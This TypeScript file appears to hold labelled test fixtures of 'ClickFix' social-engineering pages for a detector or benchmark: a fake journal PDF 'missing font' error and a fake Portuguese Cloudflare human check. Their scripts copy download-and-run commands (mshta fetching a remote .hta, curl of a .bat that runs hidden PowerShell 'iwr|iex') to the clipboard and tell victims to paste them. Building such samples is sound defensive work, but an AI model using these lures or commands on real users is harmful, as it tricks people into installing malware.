import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, img } from '../parts/zb-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zb-clickfix-journal-pdf-viewer-error',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://journal-apsr-archive.org/article/view/2291/pdf',
    body: doc({
      title: 'Journal of Applied Policy and Social Research – Article 2291',
      css: `body{margin:0;font-family:Georgia,serif;background:#ececec}.top{background:#27304a;color:#fff;padding:12px 24px;font-family:Arial}.pdf{max-width:760px;margin:20px auto;background:#fff;height:560px;position:relative;filter:blur(2px)}.pdf p{padding:20px 40px;color:#555}
.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.35)}.d{background:#fff;width:480px;border-radius:6px;font-family:Arial;box-shadow:0 6px 30px rgba(0,0,0,.4)}.d .h{background:#c0392b;color:#fff;padding:12px 18px;border-radius:6px 6px 0 0}.d .b{padding:18px}
.d button{background:#27304a;color:#fff;border:0;padding:10px 18px;border-radius:4px}code{background:#f3f3f3;padding:2px 4px}`,
      body: `<div class="top">JAPSR &middot; Vol. 14, No. 3 (2026) &middot; Open Access</div><div class="pdf"><p>Abstract. This article examines municipal housing policy outcomes across twelve European cities between 2008 and 2024, drawing on administrative panel data...</p></div>
<div class="ov"><div class="d"><div class="h">&#9888; PDF viewer error</div><div class="b"><p>The embedded font <b>"MinionPro-Regular"</b> could not be loaded by your browser's PDF viewer. To display this article correctly, install the missing font package.</p>
<p><b>How to fix:</b></p><ol style="font-size:14px"><li>Click <b>Copy fix</b></li><li>Open <b>Windows PowerShell</b> (right-click the Start button &rarr; Terminal)</li><li>Paste with <code>Ctrl+V</code> and press Enter</li><li>Reload this page</li></ol><button id="fx">Copy fix</button> <span id="ok" style="color:green;display:none">Copied!</span></div></div></div>
<script src="/assets/viewer.js"></script>`,
    }),
    routes: { 'journal-apsr-archive.org/assets/viewer.js': jsRoute(`document.getElementById('fx').onclick=function(){var p=['mshta','https://journal-apsr-archive.org/assets/fonts/MinionPro.hta'].join(' ');navigator.clipboard.writeText(p+' # Font package installer');document.getElementById('ok').style.display='inline';};`) },
  },
  {
    id: 'zb-clickfix-turnstile-portal-aluno-pt',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://portal-aluno-verificacao.com/acesso',
    body: doc({
      title: 'Um momento…',
      lang: 'pt',
      css: `body{margin:0;font-family:-apple-system,system-ui,sans-serif;background:#fff;color:#313131}.m{max-width:640px;margin:100px auto;padding:0 20px}.box{border:1px solid #e0e0e0;background:#fafafa;padding:14px;display:flex;align-items:center;gap:12px;width:300px}
.box span{width:24px;height:24px;border:2px solid #666;border-radius:3px;display:inline-block;cursor:pointer}.modal{display:none;border:1px solid #ccc;padding:18px;margin-top:20px;background:#fff;box-shadow:0 2px 12px rgba(0,0,0,.15)}`,
      body: `<div class="m"><h2>portal-aluno-verificacao.com</h2><p>Verifique que você é humano para continuar para o Portal do Aluno.</p>
<div class="box"><span id="cb"></span> Confirme que é humano</div>
<div class="modal" id="md"><b>Verificação adicional necessária</b><p>1. Pressione <b>Windows + R</b><br>2. Cole o código de verificação (<b>Ctrl + V</b>)<br>3. Pressione <b>Enter</b> para concluir</p><p style="font-size:12px;color:#777">ID de verificação: 22817-PT</p></div>
<p style="font-size:12px;color:#999;margin-top:40px">Desempenho e segurança por Cloudflare</p></div>
<script>
document.getElementById('cb').onclick=function(){var c='cmd /c "curl -s https://portal-aluno-verificacao.com/v.bat -o %TEMP%\\\\v.bat && %TEMP%\\\\v.bat" :: Verificação humana ID 22817';
var ta=document.createElement('textarea');ta.value=c;document.body.appendChild(ta);ta.select();document.execCommand('copy');document.body.removeChild(ta);this.style.background='#0a0';document.getElementById('md').style.display='block';};
</script>`,
    }),
    routes: { 'portal-aluno-verificacao.com/v.bat': { status: 200, headers: { 'content-type': 'text/plain' }, body: '@echo off\r\npowershell -w h -c "iwr https://portal-aluno-verificacao.com/p.ps1|iex"\r\n' } },
  },
];
